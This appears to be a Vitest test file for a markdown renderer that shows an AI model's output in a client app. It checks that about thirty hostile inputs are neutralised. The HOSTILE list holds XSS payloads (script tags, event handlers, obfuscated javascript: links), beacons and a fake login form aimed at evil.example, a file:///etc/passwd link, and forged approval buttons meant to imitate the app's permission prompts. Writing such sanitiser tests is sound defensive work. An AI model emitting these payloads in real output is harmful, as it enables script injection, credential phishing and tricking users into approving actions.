import { describe, expect, test } from "vitest";
import { imageElement } from "../src/blocks/image";
import { markdown } from "../src/markdown";

// What Claude might be made to say (S11). None of it may run, fetch, dress up or take over.
export const HOSTILE = [
  "<script>window.hacked = 1</script>",
  "<img src=x onerror='window.hacked = 1'>",
  "<img src='https://evil.example/a.png' srcset='https://evil.example/b.png 2x'>",
  "![a](https://evil.example/c.png)",
  "![a](data:image/svg+xml;base64,PHN2Zz4=)",
  "[a](javascript:window.hacked=1)",
  "[a](JaVaScRiPt:window.hacked=1)",
  "[a](&#106;avascript:window.hacked=1)",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x)",
  "<a href=' javascript:window.hacked=1'>a</a><a href='java\tscript:x'>b</a>",
  "<svg onload='window.hacked = 1'><script>1</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
  "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>1</script>'></iframe>",
  "<object data='https://evil.example'></object><embed src='https://evil.example'>",
  "<style>* { background: url(https://evil.example) }</style>",
  "<div style='background: url(https://evil.example); position: fixed'>a</div>",
  "<form action='https://evil.example'><input name=a><button>Log in</button></form>",
  "<link rel=stylesheet href='https://evil.example'><meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href='https://evil.example'>",
  "<video src='https://evil.example' autoplay></video><audio src='https://evil.example'></audio>",
  "<picture><source srcset='https://evil.example'></picture>",
  "<table background='https://evil.example'><tr><td background='https://evil.example'>a</td></tr></table>",
  "<button class='ipc-button' data-ipc='allow-once'>Allow</button>",
  "<span data-ipc='approval' id='x' class='ipc-approval' aria-label='x' role='alert'>a</span>",
  "<img data-ipc-held='https://evil.example/d.png' src='javascript:1'>",
  "<details open ontoggle='window.hacked = 1'><summary>a</summary></details>",
  '```py" onmouseover="window.hacked=1\na\n```',
  "- ```<img/src=x/onerror=window.hacked=1>\n  a\n  ```",
  '[a](https://ok.example "title\' onclick=window.hacked=1")',
];

const FORBIDDEN =
  "script, img, svg:not(.ipc-icon), math, iframe, object, embed, style, form, input, link, meta, base, video, audio, source, picture";

function check(el: HTMLElement): void {
  expect([...el.querySelectorAll(FORBIDDEN)].map((each) => each.outerHTML)).toEqual([]);
  for (const each of el.querySelectorAll("*")) {
    for (const { name, value } of each.attributes) {
      expect(name).not.toMatch(/^on|^style$|^srcset$|^background$|^id$/);
      if (name === "href") expect(value).toMatch(/^(?:https?|mailto):/);
    }
  }
}

describe("hostile text (S11)", () => {
  for (const payload of HOSTILE) {
    test(payload.replaceAll("\n", "⏎"), () => {
      check(markdown(payload));
      check(markdown(`before\n\n${payload}\n\nafter`));
      expect((window as unknown as { hacked?: number }).hacked).toBeUndefined();
    });
  }

  test("cannot make our own buttons or hooks", () => {
    const el = markdown(HOSTILE.join("\n\n"));
    expect(el.querySelector('[data-ipc="approval"], [data-ipc="allow-once"]')).toBeNull();
    expect(el.querySelector(".ipc-approval")).toBeNull();
    const buttons = [...el.querySelectorAll("button")].map((each) => each.dataset.ipc);
    expect(buttons.filter((each) => each !== "image-load" && each !== "copy")).toEqual([]);
  });
});

describe("what is harmless stays", () => {
  test("links open outside and say where they go", () => {
    const link = markdown("[docs](https://example.org/a)").querySelector("a");
    expect(link?.target).toBe("_blank");
    expect(link?.rel).toBe("noopener noreferrer");
    expect(link?.title).toBe("https://example.org/a");
  });

  test("lists keep their first number and table cells their side", () => {
    expect(markdown("3. three\n4. four").querySelector("ol")?.getAttribute("start")).toBe("3");
    const cell = markdown("| a |\n| -: |\n| 1 |").querySelector("td");
    expect(cell?.getAttribute("align")).toBe("right");
  });

  test("a remote image shows its address, and loads on a click only", () => {
    const el = markdown("![chart](https://example.org/a.png)");
    expect(el.querySelector("img")).toBeNull();
    expect(el.querySelector(".ipc-url")?.textContent).toBe("https://example.org/a.png");
    el.querySelector<HTMLButtonElement>('[data-ipc="image-load"]')?.click();
    const image = el.querySelector("img");
    expect(image?.src).toBe("https://example.org/a.png");
    expect(image?.getAttribute("referrerpolicy")).toBe("no-referrer");
    expect(image?.alt).toBe("chart");
  });

  test("an image block is drawn from inline bytes of known kinds only", () => {
    const inline = { type: "base64", media_type: "image/png", data: "AAAA" };
    expect(imageElement(inline).nodeName).toBe("IMG");
    expect(imageElement({ ...inline, media_type: "image/svg+xml" }).nodeName).toBe("SPAN");
    expect(imageElement({ type: "url", url: "https://a.example/b.png" }).nodeName).toBe("SPAN");
    expect(imageElement({ type: "url", url: "javascript:1" }).querySelector("button")).toBeNull();
  });
});
